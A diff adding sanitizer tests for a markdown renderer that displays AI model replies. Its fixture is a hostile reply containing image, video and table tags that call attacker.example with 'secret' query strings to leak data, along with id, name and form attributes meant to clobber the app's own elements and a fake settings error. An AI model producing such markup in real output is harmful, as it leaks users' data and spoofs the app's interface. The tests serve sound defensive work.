@@ -35,3 +35,49 @@ describe('markdown of model output', () => {
     expect(out).not.toContain('evil.example');
   });
 });
+
+describe('a hostile reply', () => {
+  const hostile =
+    'Here you go.\n\n<ul id="connections"><li name="x">one</li></ul>\n\n' +
+    '<img src="https://attacker.example/x.png?secret" alt="a chart"> <img srcset="https://attacker.example/y.png 1x">\n\n' +
+    '<form id="settings-form"><p id="settings-error" name="settings-form">fake error</p></form>\n\n' +
+    '<a name="add-connection" id="library-dialog" href="https://example.com/">link</a> ' +
+    '<label for="settings-save" form="settings-form">save</label> <span data-figure="tps" aria-labelledby="title" popover>9000</span>\n\n' +
+    '![tracker](https://attacker.example/t.gif?q=secret) <video src="https://attacker.example/v.mp4" poster="https://attacker.example/p.png"></video>' +
+    '<table background="https://attacker.example/bg.png"><tr><td>x</td></tr></table>';
+
+  it('keeps no id, name, form or other reference to the app, and no remote source', () => {
+    const div = document.createElement('div');
+    div.append(renderMarkdown(hostile));
+    const out = div.innerHTML;
+    for (const bad of [' id=', ' name=', ' form=', ' for=', 'data-figure', 'aria-', 'popover', 'srcset', 'poster', 'background', '<form', '<video']) {
+      expect(out, bad).not.toContain(bad);
+    }
+    expect(out).not.toContain('attacker.example');
+    for (const el of div.querySelectorAll('*')) {
+      for (const attr of ['id', 'name', 'form', 'src', 'srcset']) expect(el.hasAttribute(attr), `${el.tagName} ${attr}`).toBe(false);
+    }
+    // The text stays: an image that may not be fetched reads as its alt text; the link works.
+    expect(div.textContent).toContain('a chart');
+    expect(div.textContent).toContain('tracker');
+    expect(div.textContent).toContain('fake error');
+    expect(div.querySelector('a')!.getAttribute('href')).toBe('https://example.com/');
+    // Nothing of the reply answers the app's lookups.
+    document.body.append(div);
+    for (const selector of ['#connections', '#settings-form', '#settings-error', '#library-dialog', '[name=add-connection]', '[data-figure]']) {
+      expect(document.querySelector(selector), selector).toBeNull();
+    }
+    div.remove();
+  });
+
+  it('keeps an image carried in the text, and no other class than highlight.js writes', () => {
+    const png = 'data:image/png;base64,iVBORw0KGgo=';
+    const out = html(`![dot](${png}) <img src="data:image/svg+xml;base64,PHN2Zz4="> <p class="error tok src-accepted">x</p>\n\n\`\`\`js\nconst a = 1;\n\`\`\``);
+    expect(out).toContain(`src="${png}"`);
+    expect(out).not.toContain('svg+xml');
+    expect(out).not.toContain('class="error');
+    expect(out).not.toContain('src-accepted');
+    expect(out).toContain('class="hljs-block"');
+    expect(out).toContain('class="hljs-keyword"');
+  });
+});
